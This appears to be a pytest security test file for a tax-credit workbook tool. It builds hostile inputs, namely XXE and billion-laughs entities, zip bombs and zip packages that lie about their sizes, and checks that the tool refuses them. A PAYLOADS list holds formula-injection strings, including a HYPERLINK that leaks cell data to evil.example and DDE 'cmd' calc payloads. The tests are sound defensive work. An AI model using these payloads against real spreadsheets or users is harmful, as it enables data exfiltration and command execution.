"""Hostile and broken workbooks, and precious outputs (issue 7, SECURITY.md).

Every bad workbook is built for real: a template written by `xlcredits new`, edited with openpyxl
(moved or deleted names, text or an error value in a number cell, merged or protected ranges), or
crafted with zipfile (XML entities, zip bombs, damaged packages, macros), or an OLE2 file (.xls,
a password-encrypted workbook). Through the CLI each gets exit code 1 (a workbook whose findings
name the field) or 2 (one sentence naming the file and, where it applies, the cell or name; no
output file), never a traceback, and the input file is never modified."""

from __future__ import annotations

import copy
import errno
import hashlib
import io
import json
import os
import random
import re
import signal
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import EXAMPLES, ROOT
from test_workbook_support import CASES_7207, CASES_NJ
from xlcredits import safefile
from xlcredits.cli import main
from xlcredits.workbook import reader
from xlcredits.workbook.inputs import get_path, set_path
from xlcredits.workbook.reader import open_workbook
from xlcredits.workbook.files import fill_book
from xlcredits.workbook.writer import WorkbookError

ACME = EXAMPLES / "form7207_acme_2025.json"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A Form 7207 template as `xlcredits new` writes it, with one product row typed in."""
    folder = tmp_path_factory.mktemp("template")
    blank = folder / "blank.xlsx"
    assert main(["new", "7207", "--tax-year", "2025", "-o", str(blank)]) == 0
    wb = openpyxl.load_workbook(blank)
    cell(wb, "F7207_in_filer_name").value = "Typed Co"
    p = wb["Products"]
    p["A4"], p["B4"], p["C4"], p["D4"] = "1e", "Module", 300, 100
    typed = folder / "typed.xlsx"
    wb.save(typed)
    return typed


def cell(wb, name: str):
    sheet, ref = list(wb.defined_names[name].destinations)[0]
    return wb[sheet][ref.replace("$", "").split(":")[0]]


def edited(template: Path, folder: Path, name: str, change) -> Path:
    wb = openpyxl.load_workbook(template)
    change(wb)
    out = folder / name
    wb.save(out)
    return out


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main(list(map(str, argv)))
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    return code, captured.out, captured.err


def refused(capsys, path: Path, folder: Path, *needles: str) -> str:
    """fill, extract and verify all refuse `path` with one sentence containing every needle, write
    nothing, and leave the file as it was."""
    before = digest(path)
    out = folder / "out.xlsx"
    for argv in (["fill", path, "-o", out], ["extract", path], ["verify", path]):
        code, stdout, err = run(capsys, *argv)
        assert code == 2, (argv, stdout, err)
        assert err.startswith("xlcredits: ") and err.count("\n") == 1 and stdout == ""
        for needle in needles:
            assert needle in err, (needle, err)
        assert not out.exists()
    assert digest(path) == before
    assert not list(folder.glob(".xlcredits-*"))
    return err


# --- workbook inputs: what is wrong, and where ---------------------------------------------------------

def test_a_deleted_defined_name_is_named(template, tmp_path, capsys):
    bad = edited(template, tmp_path, "deleted.xlsx", lambda wb: wb.defined_names.pop("F7207_in_filer_name"))
    refused(capsys, bad, tmp_path, "deleted.xlsx: this workbook's layout was changed",
            "F7207_in_filer_name is missing (the template has it at 'Form 7207'!$C$3)")


def test_a_moved_defined_name_is_named(template, tmp_path, capsys):
    def move(wb):  # rows inserted above line 1e: its name now points elsewhere
        wb.defined_names["F7207_1e_e"].attr_text = "'Form 7207'!$F$40"
        wb.defined_names["F7207_in_filer_name"].attr_text = "'Form 7207'!$C$4"

    err = refused(capsys, edited(template, tmp_path, "moved.xlsx", move), tmp_path, "layout was changed",
                  "refers to 'Form 7207'!$")
    assert "(and 1 more)" in err


def test_a_renamed_sheet_is_named(template, tmp_path, capsys):
    def rename(wb):
        wb["Products"].title = "My products"

    refused(capsys, edited(template, tmp_path, "renamed.xlsx", rename), tmp_path, "layout was changed",
            "the template has it at 'Products'!$")


@pytest.mark.parametrize("typed, needle", [
    # issue 16: a typed-in workbook's problems name the cell and its sheet row, not the JSON path
    ("three hundred", 'Products!C4 (Products row 4 — Module): units is "three hundred", not a number; expected a number'),
    ("#DIV/0!", "Products!C4 (Products row 4 — Module): units holds the Excel error #DIV/0!: correct the formula that gives it"),
    ("#N/A", "Products!C4 (Products row 4 — Module): units holds the Excel error #N/A"),
])
def test_text_or_an_error_value_in_a_number_cell_is_a_finding_on_that_cell(template, tmp_path, capsys, typed,
                                                                           needle):
    def put(wb):
        wb["Products"]["C4"] = typed  # openpyxl stores "#DIV/0!" as an error value (t="e")

    bad = edited(template, tmp_path, "bad.xlsx", put)
    if typed.startswith("#"):
        assert openpyxl.load_workbook(bad)["Products"]["C4"].data_type == "e"
    before, out = digest(bad), tmp_path / "out.xlsx"
    code, stdout, _ = run(capsys, "fill", bad, "-o", out)
    assert code == 1 and needle in stdout and digest(bad) == before
    audit = openpyxl.load_workbook(out)["Audit"]
    rows = [[c.value for c in row] for row in audit.iter_rows()]
    # where, as a cell and in plain words (the Audit sheet shows no JSON paths: issue 13)
    assert any(any(str(v).startswith("Products row 1") for v in row) and "Products!C4" in row for row in rows)


def test_an_input_cell_merged_away_is_named(template, tmp_path, capsys):
    def merge(wb):
        wb["Products"].merge_cells("B4:C4")  # description over units: the 300 in C4 is lost

    refused(capsys, edited(template, tmp_path, "merged.xlsx", merge), tmp_path,
            "merged.xlsx: cells Products!B4:C4 are merged over the input cell Products!C4")


def test_a_merge_that_keeps_the_input_first_is_read(template, tmp_path, capsys):
    def merge(wb):
        wb["Form 7207"].unmerge_cells("C3:F3")
        wb["Form 7207"].merge_cells("C3:E3")  # the filer name stays the first cell of its merge

    code, stdout, _ = run(capsys, "fill", edited(template, tmp_path, "remerged.xlsx", merge), "-o",
                          tmp_path / "out.xlsx")
    assert code == 0, stdout


def test_protected_sheets_and_structure_are_read(template, tmp_path, capsys):
    """Protection stops typing in Excel, not reading: the file path fills a new workbook, protected as
    every form workbook is (issue 13), without the source's password."""
    from openpyxl.workbook.protection import WorkbookProtection

    def protect(wb):
        wb["Products"].protection.sheet = True
        wb["Products"].protection.password = "secret"
        wb.security = WorkbookProtection(workbookPassword="secret", lockStructure=True)

    out = tmp_path / "out.xlsx"
    code, stdout, _ = run(capsys, "fill", edited(template, tmp_path, "protected.xlsx", protect), "-o", out)
    assert code == 0 and "line 8a = 2,100.00" in stdout
    protection = openpyxl.load_workbook(out)["Products"].protection
    assert protection.sheet and not protection.password and not protection.hashValue


def ole2(*streams: str) -> bytes:
    """The start of an OLE2 compound file naming `streams` in its directory (what the sniffing reads)."""
    names = b"".join(s.encode("utf-16-le").ljust(128, b"\0") for s in ("Root Entry", *streams))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + names + b"\0" * 512


def encrypted_xlsx(source: Path) -> bytes:
    pytest.importorskip("msoffcrypto")
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with open(source, "rb") as f:
        OOXMLFile(f).encrypt("secret", out)
    return out.getvalue()


@pytest.mark.parametrize("name, content, needle", [
    ("old.xls", ole2("Workbook", "SummaryInformation"),
     "old.xls is an Excel 97-2003 .xls or a password-protected workbook"),
    ("old-renamed.xlsx", ole2("Workbook"), "old-renamed.xlsx is an Excel 97-2003 .xls or a password-protected "
                                           "workbook: save it as .xlsx without a password"),
    ("data.xlsx", "Year,Units\n2025,300\n".encode(), "data.xlsx is a text file (CSV?), not an .xlsx workbook"),
    ("data-1252.xlsx", "Société,Units\n2025,300\n".encode("cp1252"), "data-1252.xlsx is a text file (CSV?)"),
    ("page.xlsx", b"<html><table><tr><td>1</td></tr></table></html>", "page.xlsx is an XML or HTML file"),
    ("empty.xlsx", b"", "empty.xlsx is empty (0 bytes)"),
    ("noise.xlsx", bytes(range(256)) * 4, "noise.xlsx is not an .xlsx workbook"),
    ("archive.xlsx", None, "archive.xlsx is a zip file but not an Excel workbook"),
    ("binary.xlsx", None, "binary.xlsx is an Excel binary workbook (.xlsb): save it as .xlsx"),
    ("sheet.xlsx", None, "sheet.xlsx is an OpenDocument spreadsheet: save it as .xlsx"),
])
def test_files_that_are_not_xlsx_workbooks(tmp_path, capsys, name, content, needle):
    if content is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr({"archive.xlsx": "readme.txt", "binary.xlsx": "xl/workbook.bin",
                        "sheet.xlsx": "content.xml"}[name], "x")
        content = buffer.getvalue()
    path = tmp_path / name
    path.write_bytes(content)
    if path.suffix == ".xlsx":
        refused(capsys, path, tmp_path, needle)
    else:  # `fill old.xls` reads it as a JSON input, and says what it is
        code, _, err = run(capsys, "fill", path, "-o", tmp_path / "out.xlsx")
        assert code == 2 and needle in err and "save it as .xlsx without a password" in err
        assert not (tmp_path / "out.xlsx").exists()


def test_a_password_protected_workbook(template, tmp_path, capsys):
    path = tmp_path / "locked.xlsx"
    path.write_bytes(encrypted_xlsx(template))
    refused(capsys, path, tmp_path, "locked.xlsx is password-protected (encrypted): open it in Excel, remove the "
                                     "password")
    as_json = tmp_path / "locked.json"
    as_json.write_bytes(path.read_bytes())
    code, out, _ = run(capsys, "compute", as_json)
    assert code == 1 and "locked.json is a password-protected workbook, not a JSON input" in out


def rewrite(source: Path, target: Path, change: dict) -> Path:
    """Copy a zip package, replacing parts (bytes), dropping them (None) or adding them."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    zout.writestr(info.filename, change[info.filename])
            else:
                zout.writestr(info.filename, zin.read(info.filename))
        for part, data in change.items():
            if part not in zin.namelist() and data is not None:
                zout.writestr(part, data)
    return target


@pytest.fixture(scope="module")
def blank(tmp_path_factory) -> Path:
    """A template exactly as XlsxWriter writes it (shared strings in xl/sharedStrings.xml)."""
    path = tmp_path_factory.mktemp("blank") / "blank.xlsx"
    assert main(["new", "7207", "--tax-year", "2025", "-o", str(path)]) == 0
    return path


@pytest.mark.parametrize("case", ["truncated", "bad-xml", "missing-part", "bad-crc"])
def test_damaged_workbooks(blank, tmp_path, capsys, case):
    path = tmp_path / f"{case}.xlsx"
    raw = blank.read_bytes()
    if case == "truncated":  # an attachment cut short
        path.write_bytes(raw[: len(raw) * 2 // 3])
    elif case == "bad-xml":
        rewrite(blank, path, {"xl/worksheets/sheet2.xml": b"<worksheet><sheetData><row>"})
    elif case == "missing-part":
        rewrite(blank, path, {"xl/sharedStrings.xml": None})
    else:  # one byte of a part's compressed data flipped
        with zipfile.ZipFile(blank) as z:
            info = z.getinfo("xl/sharedStrings.xml")
        data = bytearray(raw)
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
        data[start + info.compress_size // 2] ^= 0xFF
        path.write_bytes(bytes(data))
    refused(capsys, path, tmp_path, f"{case}.xlsx is damaged")


def test_an_xlsm_is_read_its_macros_never_run_nor_copied(template, tmp_path, capsys):
    path = rewrite(template, tmp_path / "macros.xlsm", {"xl/vbaProject.bin": ole2("VBA", "PROJECT")})
    before, out = digest(path), tmp_path / "out.xlsx"
    code, stdout, _ = run(capsys, "fill", path, "-o", out)
    assert code == 0 and digest(path) == before
    assert "macros.xlsm contains macros (xl/vbaProject.bin): xlcredits never runs them, and the completed " \
           "workbook carries none" in stdout
    with zipfile.ZipFile(out) as z:
        assert not [n for n in z.namelist() if "vba" in n.lower() or "externalLink" in n]
        assert "macroEnabled" not in z.read("[Content_Types].xml").decode()
    code, _, err = run(capsys, "fill", path, "-o", tmp_path / "out.xlsm")
    assert code == 2 and "out.xlsm: xlcredits writes .xlsx workbooks, which carry no macros; name the output .xlsx" \
        in err and not (tmp_path / "out.xlsm").exists()


# --- XML entities and zip bombs ----------------------------------------------------------------------

def test_openpyxl_parses_client_xml_with_defusedxml():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


def _with_doctype(xml: bytes, doctype: str, entity_at: bytes, reference: str) -> bytes:
    text = xml.decode()
    at = text.index("?>") + 2 if text.startswith("<?xml") else 0
    text = text[:at] + doctype + text[at:]
    return text.replace(entity_at.decode(), entity_at.decode() + reference, 1).encode()


@pytest.fixture
def opened_files():
    """Paths opened by Python while the test runs (an audit hook; hooks cannot be removed, so it
    records only while `active`)."""
    seen: list[str] = []
    state = {"active": True}

    def hook(event, args):
        if state["active"] and event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
            seen.append(os.fsdecode(args[0]))

    sys.addaudithook(hook)
    yield seen
    state["active"] = False


@pytest.mark.parametrize("kind", ["external-entity", "billion-laughs", "external-dtd-in-sheet"])
def test_xml_entities_are_refused_and_never_expanded(blank, tmp_path, capsys, opened_files, kind):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7207")
    opened_files.clear()
    with zipfile.ZipFile(blank) as z:
        strings, sheet = z.read("xl/sharedStrings.xml"), z.read("xl/worksheets/sheet1.xml")
    if kind == "external-entity":
        change = {"xl/sharedStrings.xml": _with_doctype(
            strings, f'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>', b"<t>", "&xxe;")}
    elif kind == "billion-laughs":
        entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
        change = {"xl/sharedStrings.xml": _with_doctype(strings, f"<!DOCTYPE sst [{entities}]>", b"<t>", "&l9;")}
    else:
        change = {"xl/worksheets/sheet1.xml": _with_doctype(
            sheet, f'<!DOCTYPE worksheet [<!ENTITY % dtd SYSTEM "{secret.as_uri()}"> %dtd;]>', b"", "")}
    path = rewrite(blank, tmp_path / f"{kind}.xlsx", change)
    start = time.perf_counter()
    with pytest.raises(WorkbookError, match="declares XML entities, which Excel never writes"):
        open_workbook(path)
    assert time.perf_counter() - start < 5
    err = refused(capsys, path, tmp_path, f"{kind}.xlsx declares XML entities")
    assert "TOP-SECRET" not in err
    assert str(secret) not in opened_files  # the entity's file was never opened


def _zip(path: Path, parts: dict, declared: dict | None = None) -> Path:
    """Write a zip package; a part may be an iterable of chunks (streamed, so 100 MB of it needs no
    memory); `declared` overrides the unpacked size a part declares (local header and central
    directory), as a hostile file would."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            with z.open(name, "w") as w:
                for chunk in ([data] if isinstance(data, bytes) else data):
                    w.write(chunk)
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        infos = {i.filename: i for i in z.infolist()}
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        length = struct.unpack_from("<H", raw, central + 28)[0]
        name = raw[central + 46: central + 46 + length].decode()
        if name in (declared or {}):
            struct.pack_into("<I", raw, central + 24, declared[name])
            struct.pack_into("<I", raw, infos[name].header_offset + 22, declared[name])
        central = raw.find(b"PK\x01\x02", central + 46)
    path.write_bytes(bytes(raw))
    return path


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, capsys, monkeypatch):
    """101 MB of zeros in a 100 KB file: refused from the sizes the zip declares, before openpyxl
    (or zipfile) unpacks a byte of it."""
    megabytes = reader.MAX_UNPACKED_BYTES // (1 << 20) + 1
    zeros = (b"\0" * (1 << 20) for _ in range(megabytes))
    bomb = _zip(tmp_path / "bomb.xlsx", {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                         "xl/worksheets/sheet1.xml": zeros})
    assert bomb.stat().st_size < 200_000

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to load a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    start = time.perf_counter()
    refused(capsys, bomb, tmp_path, "bomb.xlsx unpacks to ", "refused as too large (a zip bomb?)")
    assert time.perf_counter() - start < 2


def test_a_zip_that_understates_its_sizes_is_refused_as_damaged(blank, tmp_path, capsys):
    """zipfile stops at a part's declared size and then fails its CRC: declared sizes cannot lie."""
    with zipfile.ZipFile(blank) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    strings = parts["xl/sharedStrings.xml"]
    blanks = (b" " * (1 << 20) for _ in range(reader.MAX_UNPACKED_BYTES // (1 << 20) + 20))
    parts["xl/sharedStrings.xml"] = iter([strings, *blanks])  # 120 MB of (valid) trailing blanks
    path = _zip(tmp_path / "liar.xlsx", parts, declared={"xl/sharedStrings.xml": len(strings)})
    with zipfile.ZipFile(path) as z:
        assert sum(i.file_size for i in z.infolist()) < reader.MAX_UNPACKED_BYTES
    start = time.perf_counter()
    refused(capsys, path, tmp_path, "liar.xlsx is damaged")
    assert time.perf_counter() - start < 10


def test_oversized_files_are_refused_before_reading(tmp_path, capsys, monkeypatch):
    path = tmp_path / "huge.xlsx"
    path.write_bytes(b"PK")
    monkeypatch.setattr(reader, "MAX_FILE_BYTES", 1)
    refused(capsys, path, tmp_path, "huge.xlsx is 2 bytes; workbooks over 1 bytes are refused")


# --- nothing runs that should not: formula injection ------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "=cmd|' /C calc'!A0"]


def _inject(data: dict, layout) -> dict[str, str]:
    """Put a payload in every free-text input of `data` (fields and rows); return cell -> text."""
    planted, n = {}, 0
    for path, fp in layout.fields.items():
        if fp.unit == "text" and fp.field.type == "text" and "selected_years" not in path:
            text = f"{PAYLOADS[n % len(PAYLOADS)]} f{n}"
            set_path(data, path, text)
            planted[fp.place.address] = text
            n += 1
    for sp in layout.schedules.values():
        for i, row in enumerate(get_path(data, sp.schedule.json_field) or []):
            for column in sp.inputs():
                if str(column.unit) == "text" and column.key not in ("line", "status", "credit"):  # keys, not free text
                    text = f"{PAYLOADS[n % len(PAYLOADS)]} r{n}"
                    row[column.key] = text
                    planted[sp.address(i, column.key)] = text
                    n += 1
    return planted


@pytest.mark.parametrize("case", ["obbba_2030", "nj_regular", "nj_sharing"])
def test_typed_text_is_written_as_text_never_as_a_formula(tmp_path, capsys, case):
    """Filer and facility names, descriptions, vessel names, credit names starting with = + - @ or
    a tab come back from the completed workbook as text, in the JSON fill and again when that
    workbook is the input; no formula in either file mentions them."""
    data = copy.deepcopy({**CASES_7207, **CASES_NJ}[case])
    _, layout, _ = fill_book(copy.deepcopy(data))
    planted = _inject(data, layout)
    names = [sp.address(0, "name") for key, sp in layout.schedules.items() if "name" in sp.cols]
    assert len(planted) >= 3 and set(names) & set(planted)  # vessel names, credit names
    src, first, second = tmp_path / "in.json", tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    src.write_text(json.dumps(data, default=str), encoding="utf-8")
    assert run(capsys, "fill", src, "-o", first)[0] in (0, 1)
    assert run(capsys, "fill", first, "-o", second)[0] in (0, 1)  # the completed workbook as the input
    for path in (first, second):
        wb = openpyxl.load_workbook(path)
        for target, text in planted.items():
            sheet, ref = target.split("!")
            got = wb[sheet.strip("'").replace("''", "'")][ref.replace("$", "")]
            assert got.data_type == "s" and got.value.strip() == text.strip(), (path.name, target, got.value)
        with zipfile.ZipFile(path) as z:
            formulas = [f for n in z.namelist() if n.startswith("xl/worksheets/")
                        for f in re.findall(r"<f>([^<]*)</f>", z.read(n).decode())]
        assert formulas and not [f for f in formulas if "cmd|" in f or "evil" in f or "SUM(1+1)" in f]


# --- nothing is lost: outputs -------------------------------------------------------------------------

def test_an_interrupted_write_leaves_the_old_file_and_no_temporary_file(tmp_path, monkeypatch):
    """The atomic-rename helper with a writer that fails half way."""
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the old, complete file")
    with pytest.raises(RuntimeError):
        with safefile.atomic_output(target, force=True) as tmp:
            tmp.write_bytes(b"half a wor")
            raise RuntimeError("power cut")
    assert target.read_bytes() == b"the old, complete file"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]


def _big_input(folder: Path) -> Path:
    """A Form 7207 input with 2,000 product rows: long enough a write to be killed in the middle."""
    data = json.loads(ACME.read_text())
    data["components"] = (data["components"] * 2000)[:2000]
    path = folder / "big.json"
    path.write_text(json.dumps(data))
    return path


def test_killing_fill_mid_write_leaves_the_old_output_intact(tmp_path):
    """`xlcredits fill --force` over an existing output, SIGKILLed at random moments while its
    temporary file exists: the output is always the old file or a complete new one; the temporary
    files of killed runs are removed by the next run."""
    if not hasattr(signal, "SIGKILL"):
        pytest.skip("no SIGKILL here")
    out = tmp_path / "out" / "form.xlsx"
    out.parent.mkdir()
    assert main(["fill", str(EXAMPLES / "nj306_regular_2025.json"), "-o", str(out)]) == 0
    old = out.read_bytes()
    source = _big_input(tmp_path)
    command = [sys.executable, "-m", "xlcredits", "fill", str(source), "-o", str(out), "--force"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    rng = random.Random(7)
    killed_mid_write = 0
    for attempt in range(4):
        left = set(out.parent.glob(".xlcredits-*"))  # by the runs killed before (this run removes them)

        def writing() -> set:
            return set(out.parent.glob(".xlcredits-*")) - left

        proc = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while not writing() and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.002)
        time.sleep(rng.uniform(0, 0.3) if attempt < 3 else 0)  # the last one: as soon as it starts writing
        if proc.poll() is None:
            mid_write = bool(writing())
            proc.send_signal(signal.SIGKILL)
            killed_mid_write += mid_write
        proc.wait(timeout=60)
        if out.read_bytes() != old:  # the rename happened before the kill: a complete new workbook
            with zipfile.ZipFile(out) as z:
                assert z.testzip() is None
            old = out.read_bytes()
        assert out.read_bytes() == old
    assert killed_mid_write, "no run was killed while writing"
    assert list(out.parent.glob(".xlcredits-*"))  # SIGKILL leaves the temporary file behind ...
    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.parent.iterdir()) == ["form.xlsx"]  # ... the next run removes it
    with zipfile.ZipFile(out) as z:
        assert z.testzip() is None


def test_stale_temporary_files_of_live_or_foreign_runs_are_left_alone(tmp_path):
    mine = tmp_path / f"{safefile.PREFIX}{os.getpid()}-{safefile._HOST}~abc.xlsx"
    other_host = tmp_path / f"{safefile.PREFIX}999999-otherhost~abc.xlsx"
    unrelated = tmp_path / ".xlcredits-notes.txt"
    for p in (mine, other_host, unrelated):
        p.write_text("x")
    assert safefile.clean_stale(tmp_path) == []
    old = time.time() - 2 * safefile.STALE_SECONDS
    os.utime(other_host, (old, old))
    assert safefile.clean_stale(tmp_path) == [other_host]


@pytest.mark.parametrize("failure, needle", [
    (PermissionError(errno.EACCES, "Permission denied"), "permission denied (is it open in Excel, or read-only?)"),
    (OSError(errno.EROFS, "Read-only file system"), "the disk or folder is read-only"),
    (OSError(errno.ENOSPC, "No space left on device"), "the disk is full"),
])
def test_a_locked_or_read_only_destination_is_a_sentence(tmp_path, capsys, monkeypatch, failure, needle):
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"old")

    def refuse(src, dst):
        raise failure

    monkeypatch.setattr(safefile.os, "replace", refuse)
    code, _, err = run(capsys, "fill", ACME, "-o", out, "--force")
    assert code == 2 and err == f"xlcredits: cannot write {out}: {needle}\n"
    assert out.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]


def test_destinations_that_cannot_be_folders(tmp_path, capsys):
    a_file = tmp_path / "report.xlsx"
    a_file.write_bytes(b"x")
    code, _, err = run(capsys, "fill", ACME, "-o", a_file / "out.xlsx")
    assert code == 2 and f"{a_file} is not a folder" in err
    code, _, err = run(capsys, "fill", ACME, "-o", tmp_path, "--force")
    assert code == 2 and f"{tmp_path} is a folder" in err


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root ignores permissions")
def test_a_read_only_folder(tmp_path, capsys):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code, _, err = run(capsys, "fill", ACME, "-o", folder / "out.xlsx")
        assert code == 2 and "permission denied" in err
    finally:
        folder.chmod(0o755)


def test_extract_never_overwrites_without_force_nor_its_input(template, tmp_path, capsys):
    out = tmp_path / "inputs.json"
    out.write_text("old")
    code, _, err = run(capsys, "extract", template, "-o", out)
    assert code == 2 and "already exists; use --force" in err and out.read_text() == "old"
    assert run(capsys, "extract", template, "-o", out, "--force")[0] == 0
    assert json.loads(out.read_text())["filer"]["name"] == "Typed Co"
    before = digest(template)
    code, _, err = run(capsys, "extract", template, "-o", template, "--force")
    assert code == 2 and "the input is never modified" in err and digest(template) == before


def test_an_error_value_from_live_excel_is_named_not_read_as_a_number():
    """Classic xlwings reads a cell holding #DIV/0! as the int -2146826281: never an amount."""
    from xlcredits.forms import compute
    from xlcredits.workbook.inputs import from_cell

    assert from_cell(-2146826281, "quantity") == "#DIV/0!"
    assert from_cell(-2146826246, "count") == "#N/A" and from_cell(-2146826246, "text") == "#N/A"
    assert from_cell(-2146826281.5, "quantity") != "#DIV/0!"  # a (silly) number stays a number
    data = json.loads(ACME.read_text())
    data["components"][0]["units"] = from_cell(-2146826281, "quantity")
    result = compute(data)
    assert not result.computed
    assert any(f.where == "components[0].units" and "holds the Excel error #DIV/0!" in f.message
               for f in result.findings)


def test_rows_typed_below_a_schedule_are_refused_not_ignored(tmp_path):
    """A product typed below the Products table (past its defined names and SUMIFS ranges) would
    silently earn nothing: the read refuses, naming the sheet and row."""
    import openpyxl

    from xlcredits.cli import main as cli

    template = tmp_path / "t.xlsx"
    assert cli(["new", "7207", "--tax-year", "2025", "-o", str(template)]) == 0
    book = openpyxl.load_workbook(template)
    dest = next(iter(book.defined_names["F7207_products_line"].destinations))
    sheet, ref = dest
    last_row = int(ref.split(":")[1].lstrip("$").lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ").lstrip("$"))
    column = ref.split(":")[0].replace("$", "").rstrip("0123456789")
    book[sheet][f"{column}{last_row + 3}"] = "1e"
    book.save(template)
    out = tmp_path / "out.xlsx"
    assert cli(["fill", str(template), "-o", str(out)]) == 2
    assert not out.exists()
